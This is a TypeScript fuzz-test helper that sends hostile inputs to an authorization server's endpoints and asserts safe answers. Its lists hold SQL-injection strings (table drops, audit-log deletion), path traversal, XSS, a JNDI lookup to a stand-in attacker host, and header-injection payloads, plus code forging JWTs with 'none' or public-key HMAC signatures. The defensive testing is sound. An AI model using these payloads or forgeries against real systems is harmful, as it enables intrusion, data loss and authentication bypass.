// Hostile-input building blocks for tests/fuzz-endpoints.test.ts: fast-check arbitraries for strings,
// form bodies, headers and forged JWTs, a request helper with a per-request deadline, and the
// invariants every answer must keep (no 5xx, no token, the expected body format, no stack trace).
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';

import fc from 'fast-check';
import { fetch as undiciFetch, type Agent } from 'undici';

/** How many cases each property runs (scaled per endpoint by the test); FUZZ_RUNS overrides. */
export const FUZZ_RUNS = Math.max(1, Number.parseInt(process.env.FUZZ_RUNS ?? '', 10) || 250);
/** A fixed seed reproduces a run (fast-check prints the seed of a failing one). */
export const FUZZ_SEED = process.env.FUZZ_SEED ? Number.parseInt(process.env.FUZZ_SEED, 10) : undefined;
/** No answer may take longer than this: a slower one counts as a hang. */
export const REQUEST_TIMEOUT_MS = Number.parseInt(process.env.FUZZ_REQUEST_TIMEOUT_MS ?? '', 10) || 15_000;

export const SQL_INJECTIONS = [
  "' OR 1=1 --",
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '"; DROP TABLE clients; --',
  "1); DELETE FROM audit_events; --",
  "' UNION SELECT password_hash FROM users --",
  '$1',
  "\\'; SELECT pg_sleep(10); --",
];

/** Strings that broke parsers, templates, headers, lookups or encodings somewhere before. */
export const HOSTILE_STRINGS = [
  ...SQL_INJECTIONS,
  '', ' ', '\t', '0', '-1', '1e309', 'NaN', 'null', 'undefined', 'true', '[]', '{}', '[object Object]',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty',
  '%', '%zz', '%00', '%0d%0a', '+', '&', '=', '?', '#', '/', '\\', '..', '../../etc/passwd', '//evil.example',
  'https://evil.example/', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>',
  '"><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '{{7*7}}', '${7*7}', '${jndi:ldap://evil.example/a}',
  '\r\nSet-Cookie: injected=1', '\nLocation: https://evil.example/', '\u0000', 'a\u0000b', '\u0007', '\u001b[31m',
  '\u202e', '\u200b', '\ufeff', '\uffff', '\ud800', '\udfff', '\ud83d\ude00', 'ｄｒ．ｔｅｓｔ', 'dr.tеst', 'dr.test\u0301',
  'İ', 'ß', 'ﬁ', '\u212a', 'a'.repeat(64), 'a'.repeat(257), 'x'.repeat(4096),
  'patient/*.*', 'system/*.cruds', 'admin:write', 'openid offline_access', 'urn:clinical-authz:admin',
  'urn:ietf:params:oauth:grant-type:token-exchange', 'urn:ietf:params:oauth:token-type:access_token',
  'eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', 'eyJhbGciOiJub25lIn0', 'a.b.c', '...', 'Bearer', 'Basic',
];

/** Printable ASCII without CR/LF: what a header may carry (undici refuses the rest before sending). */
export const HEADER_HOSTILE = HOSTILE_STRINGS.filter((s) => /^[\x20-\x7e]*$/.test(s));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.webUrl({ withQueryParameters: true, withFragments: true }) },
  { weight: 1, arbitrary: fc.base64String({ maxLength: 80 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...SQL_INJECTIONS), fc.string({ maxLength: 10 })).map(([a, b]) => `${b}${a}`) },
);

export const headerValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...HEADER_HOSTILE) },
  { weight: 2, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 1, arbitrary: fc.base64String({ maxLength: 80 }) },
);

/** Percent-encodes the UTF-8 bytes (lone surrogates become U+FFFD, as any client would send them). */
export function pct(value: string): string {
  let out = '';
  for (const byte of Buffer.from(value, 'utf8')) {
    const c = String.fromCharCode(byte);
    out += /[A-Za-z0-9._~-]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

export type Pairs = Array<[string, string]>;

export function encodeForm(pairs: Pairs, raw = ''): string {
  return pairs.map(([k, v]) => `${pct(k)}=${pct(v)}`).join('&') + raw;
}

/** Appended verbatim to a form body: malformed escapes, bad UTF-8, repeats, empty pairs. */
export const rawFormTail: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constant('') },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '&', '&&', '=', '&=', '&=x', '&x', '&x=', '%', '&a=%', '&a=%zz', '&a=%FF%FE', '&a=%C0%AF', '&a=%ED%A0%80', '&a=%00',
      '&a=%E2%80%AE', '&a=1&a=2', '&__proto__=x', '&constructor%5Bprototype%5D=x', '&a%5B%5D=1&a%5B%5D=2',
      '&grant_type=client_credentials', '&client_id=test-app', '&token=x', '&resource=https%3A%2F%2Ffhir.test%2Fr4',
      '&scope=openid&scope=openid', `&x=${'A'.repeat(2048)}`, '&username=dr.test', '&password=x',
    ),
  },
);

export const extraPairs: fc.Arbitrary<Pairs> = fc.array(fc.tuple(
  fc.oneof(fc.constantFrom('client_id', 'client_secret', 'scope', 'resource', 'audience', 'state', 'nonce', 'x', 'request', 'request_uri',
    'client_assertion', 'client_assertion_type', 'code_verifier', 'redirect_uri', 'token_type_hint', 'actor_token', 'dpop', '__proto__'), hostileString),
  hostileString,
), { maxLength: 3 });

export const formContentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 10, arbitrary: fc.constant('application/x-www-form-urlencoded') },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'application/x-www-form-urlencoded; charset=utf-8', 'application/x-www-form-urlencoded; charset=ISO-8859-1',
      'application/x-www-form-urlencoded; charset="utf-16"', 'APPLICATION/X-WWW-FORM-URLENCODED', 'application/json',
      'multipart/form-data; boundary=xyz', 'text/plain', 'text/html', 'application/xml', 'application/x-www-form-urlencoded;;;',
      '*/*', '', undefined,
    ),
  },
  { weight: 1, arbitrary: headerValue },
);

export const jsonContentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 10, arbitrary: fc.constant('application/json') },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8', 'application/json; charset=latin1', 'application/jose', 'application/x-www-form-urlencoded',
      'text/plain', 'application/merge-patch+json', '', undefined,
    ),
  },
  { weight: 1, arbitrary: headerValue },
);

/** Headers a hostile client adds: forwarded addresses, certificate headers, odd Accept, request ids. */
export const extraHeaders: fc.Arbitrary<Record<string, string>> = fc.dictionary(
  fc.constantFrom(
    'x-forwarded-for', 'x-forwarded-proto', 'x-forwarded-host', 'forwarded', 'client-cert', 'client-cert-chain', 'x-ssl-client-cert',
    'x-request-id', 'dpop', 'origin', 'referer', 'accept', 'accept-language', 'cookie', 'user-agent', 'x-http-method-override',
    'content-encoding', 'if-match', 'idempotency-key', 'prefer',
  ),
  headerValue,
  { maxKeys: 3, noNullPrototype: true },
);

export function basicRaw(user: string, password: string): string {
  return `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
}

/** An Authorization header other than the valid one: wrong secrets, malformed schemes, garbage. */
export const hostileAuthorization: fc.Arbitrary<string | undefined> = fc.oneof(
  fc.constant(undefined),
  fc.tuple(fc.constantFrom('test-app', 'test-service', 'fuzz-jwt-client', 'no-such-client'), hostileString)
    .map(([u, p]) => basicRaw(encodeURIComponent(u), pct(p))),
  fc.tuple(hostileString, hostileString).map(([u, p]) => basicRaw(u, p)),
  headerValue.map((s) => `Basic ${s}`),
  fc.base64String({ maxLength: 60 }).map((s) => `Basic ${s}`),
  headerValue.map((s) => `Bearer ${s}`),
  headerValue.map((s) => `DPoP ${s}`),
  headerValue,
);

// ---- forged JWTs ----------------------------------------------------------------------------------

const b64 = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

export type ForgeKey = 'none' | 'public-pem' | 'public-jwk' | 'garbage';

/** A JWT signed the ways an attacker would: unsigned, or HMAC keyed with the server's public key. */
export function forgeJwt(header: Record<string, unknown>, payload: Record<string, unknown>, key: ForgeKey, material: { pem: string; jwkJson: string }, garbage = ''): string {
  const input = `${b64(header)}.${b64(payload)}`;
  const alg = String(header.alg);
  const hash = alg === 'HS512' ? 'sha512' : alg === 'HS384' ? 'sha384' : 'sha256';
  const signature = key === 'none' ? ''
    : key === 'garbage' ? Buffer.from(garbage).toString('base64url')
      : createHmac(hash, key === 'public-pem' ? material.pem : material.jwkJson).update(input).digest('base64url');
  return `${input}.${signature}`;
}

export function forgedJwt(material: { pem: string; jwkJson: string; kid: string }, claims: Record<string, unknown>): fc.Arbitrary<string> {
  return fc.record({
    alg: fc.constantFrom('none', 'None', 'NONE', 'nOnE', 'HS256', 'HS384', 'HS512', 'ES256', 'RS256', 'PS256', 'EdDSA', ''),
    typ: fc.constantFrom('at+jwt', 'JWT', 'application/at+jwt', undefined),
    kid: fc.constantFrom(material.kid, undefined, '../../keys/x', "' OR 1=1 --"),
    key: fc.constantFrom<ForgeKey>('none', 'public-pem', 'public-jwk', 'garbage'),
    garbage: fc.string({ maxLength: 64 }),
    overrides: fc.dictionary(fc.constantFrom('sub', 'aud', 'client_id', 'scope', 'exp', 'iss', 'cnf', 'act', 'acr'), fc.oneof(hostileString, fc.integer(), fc.jsonValue({ maxDepth: 2 })), { maxKeys: 2, noNullPrototype: true }),
  }).map(({ alg, typ, kid, key, garbage, overrides }) => forgeJwt(
    { alg, ...(typ ? { typ } : {}), ...(kid ? { kid } : {}) },
    { ...claims, jti: `forged-${garbage.length}-${alg}`, ...overrides },
    key, material, garbage,
  ));
}

// ---- requests and invariants ---------------------------------------------------------------------------

export interface Answer {
  status: number;
  headers: Headers;
  text: string;
  type: string;
  json: Record<string, unknown> | undefined;
}

export interface Req {
  url: string;
  method: string;
  headers: Record<string, string | undefined>;
  body?: string | undefined;
  dispatcher: Agent;
}

/** One request, answered within REQUEST_TIMEOUT_MS (the body read included) or the case fails as a hang. */
export async function send(req: Req, label: string): Promise<Answer> {
  const headers: Record<string, string> = {};
  for (const [k, v] of Object.entries(req.headers)) if (v !== undefined) headers[k] = v;
  let res;
  let text;
  try {
    res = await undiciFetch(req.url, {
      method: req.method, headers, body: req.body, redirect: 'manual', dispatcher: req.dispatcher, signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
    });
    text = await res.text();
  } catch (err) {
    const e = err as Error & { cause?: Error };
    if (e.name === 'TimeoutError' || e.name === 'AbortError') throw new Error(`${label}: no answer within ${REQUEST_TIMEOUT_MS} ms (hang)`);
    throw new Error(`${label}: request failed: ${e.message}${e.cause ? ` (${e.cause.message})` : ''}`);
  }
  const type = res.headers.get('content-type') ?? '';
  let json: Record<string, unknown> | undefined;
  if (/^application\/json/i.test(type) && text !== '') {
    try {
      json = JSON.parse(text) as Record<string, unknown>;
    } catch {
      assert.fail(`${label}: content-type ${type} but the body is not JSON: ${text.slice(0, 200)}`);
    }
  }
  return { status: res.status, headers: res.headers as unknown as Headers, text, type, json };
}

export type BodyFormat = 'json' | 'html' | 'json-or-html';

/** The invariants of every fuzz answer. */
export function assertSafe(label: string, a: Answer, format: BodyFormat, options: { emptyOk?: boolean; allowToken?: boolean } = {}): void {
  const context = () => `${label}: ${a.status} ${a.type} ${a.text.slice(0, 300)}`;
  assert.ok(a.status >= 200 && a.status < 500, `no 5xx (or other failure): ${context()}`);
  if (!options.allowToken) {
    assert.doesNotMatch(a.text, /"(access_token|refresh_token|id_token)"\s*:/, `no token issued: ${context()}`);
    assert.doesNotMatch(a.text, /"active"\s*:\s*true/, `no token reported active: ${context()}`);
  }
  const location = a.headers.get('location');
  if (location !== null) assert.doesNotMatch(location, /[\r\n]/, `no CR/LF in Location: ${context()}`);
  for (const cookie of a.headers.getSetCookie()) assert.doesNotMatch(cookie, /injected/i, `no injected cookie: ${context()}`);
  assert.doesNotMatch(a.text, /\n\s+at .+:\d+:\d+|node_modules|\/src\//, `no stack trace or file path: ${context()}`);
  // koa's bare 404 for a path no route answers (e.g. POST /reg/:id, which RFC 7592 does not define).
  if (a.status === 404 && /^text\/plain/i.test(a.type) && a.text === 'Not Found') return;
  if (a.text === '') {
    assert.ok(options.emptyOk || a.status === 204 || (a.status >= 300 && a.status < 400), `an empty body only where expected: ${context()}`);
    return;
  }
  const isJson = /^application\/json/i.test(a.type);
  const isHtml = /^text\/html/i.test(a.type);
  if (format === 'json') assert.ok(isJson, `JSON answer: ${context()}`);
  else if (format === 'html') assert.ok(isHtml, `HTML answer: ${context()}`);
  else assert.ok(isJson || isHtml, `JSON or HTML answer: ${context()}`);
  if (isJson) assert.ok(a.json !== undefined && typeof a.json === 'object', `a JSON value: ${context()}`);
  if (isHtml) {
    // A redirect's body is koa's one-line "Redirecting to …" note.
    if (a.status < 300 || a.status >= 400) assert.match(a.text, /^<!doctype html>/i, `an HTML page: ${context()}`);
    assert.ok(!a.text.includes('<script>alert(1)</script>') && !a.text.includes('<img src=x onerror'), `no reflected markup: ${context()}`);
  }
  if (isJson && a.status >= 400) {
    assert.equal(typeof a.json?.error, 'string', `an error code in a JSON refusal: ${context()}`);
  }
}

/** Passwords and secrets worth looking for in the audit log afterwards (long and varied enough not to match by chance). */
export function worthTracking(value: string): boolean {
  // The fixed hostile strings (scopes, URLs, grant names) may appear in records for other reasons.
  return value.length >= 8 && new Set(value).size >= 4 && !HOSTILE_STRINGS.some((h) => h.length >= 6 && value.includes(h));
}
